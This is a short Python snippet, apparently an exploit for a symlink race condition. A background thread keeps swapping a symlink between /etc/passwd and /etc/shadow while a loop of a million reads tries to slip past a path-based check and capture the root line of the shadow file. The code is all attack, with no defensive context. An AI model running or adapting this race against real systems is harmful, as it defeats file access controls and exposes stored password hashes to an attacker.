# a race of a million retries against a path rule
def flip():
    while True:
        for target in ("/etc/passwd", "/etc/shadow"):
            try:
                os.symlink(target, "/tmp/next")
                os.rename("/tmp/next", "/tmp/raced")
            except OSError:
                pass


threading.Thread(target=flip, daemon=True).start()
for _ in range(1_000_000):
    try:
        file = os.open("/tmp/raced", os.O_RDONLY)
        text = os.read(file, 16)
        os.close(file)
    except OSError:
        continue
    if text.startswith((b"root:*", b"root:!")):
        taken()
